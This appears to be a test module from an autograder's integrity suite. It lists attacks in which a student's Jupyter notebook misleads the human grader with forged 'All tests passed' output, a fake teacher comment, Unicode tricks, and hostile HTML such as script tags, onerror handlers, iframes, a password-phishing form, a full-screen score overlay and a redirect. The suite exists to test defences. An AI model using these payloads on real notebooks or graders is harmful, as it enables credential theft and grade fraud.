"""Mislead the human reader: what a student's page shows must be inert and clearly the student's."""

from nbformat.v4 import new_code_cell, new_markdown_cell

from tests.integrity.attacks.model import WRONG, Attack, Notebook, beside_wrong, harmless
from tests.integrity.lab import SOLUTIONS, cell_of

MEAN = SOLUTIONS["mean"]


def _shown(html: str) -> str:
    return f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))"


def _fake_verdict(notebook: Notebook) -> None:
    cell = cell_of(notebook, "mean-t1")
    at = notebook["cells"].index(cell)
    notebook["cells"].insert(
        at, new_code_cell("# Tests of mean.\nprint('All tests passed: 2/2 points')")
    )
    notebook["cells"].insert(
        at, new_markdown_cell("**Comment of the teacher:** all right, full points. <!-- 8/8 -->")
    )


def _hostile_markdown(notebook: Notebook) -> None:
    notebook["cells"].insert(
        0,
        new_markdown_cell(
            "<script>steal()</script><img src=x onerror=steal()> [click](javascript:steal()) "
            "<style>body{display:none}</style><iframe src='https://example.org'></iframe>"
        ),
    )


HOSTILE = {
    "script": "<script>fetch('/hub/api/user')</script>",
    "event handler": "<img src=x onerror='steal()'><svg onload='steal()'></svg><details ontoggle=steal() open>x</details>",
    "frame": "<iframe srcdoc='<script>steal()</script>'></iframe><object data='data:text/html,x'></object><embed src='javascript:steal()'>",
    "overlay": "<div style='position:fixed;inset:0;background:white;z-index:9999'>Points: 8 of 8</div>",
    "style sheet": "<style>*{display:none} .score::after{content:'8/8'}</style><link rel=stylesheet href='https://example.org/x.css'>",
    "form": "<form action='https://example.org'><input name=password><button>Log in again</button></form>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://example.org'><base href='https://example.org/'>",
}

RICH = """
from IPython.display import display
display({"text/html": "<script>steal()</script>", "application/javascript": "steal()", "image/svg+xml": "<svg onload='steal()'><script>steal()</script></svg>", "text/plain": "x", "application/vnd.jupyter.widget-view+json": {"model_id": "x"}}, raw=True)
"""

ATTACKS: list[Attack] = [
    *(beside_wrong(f"{name} in an output", "mean", _shown(html)) for name, html in HOSTILE.items()),
    beside_wrong("javascript and svg outputs", "mean", RICH),
    beside_wrong(
        "all tests passed",
        "mean",
        "print('\\x1b[32mAll tests passed: 2/2\\x1b[0m')\nprint('\\u202e00.2/00.2 :stnioP')",
    ),
    Attack("fake verdict beside the test", {"mean": WRONG["mean"]}, damage=_fake_verdict),
    Attack("hostile markdown", damage=_hostile_markdown),
    harmless(
        "a picture of a verdict",
        "mean",
        "import matplotlib.pyplot as plt\nplt.text(0, 0, 'Points: 8 of 8'); plt.show()\n" + MEAN,
    ),
]
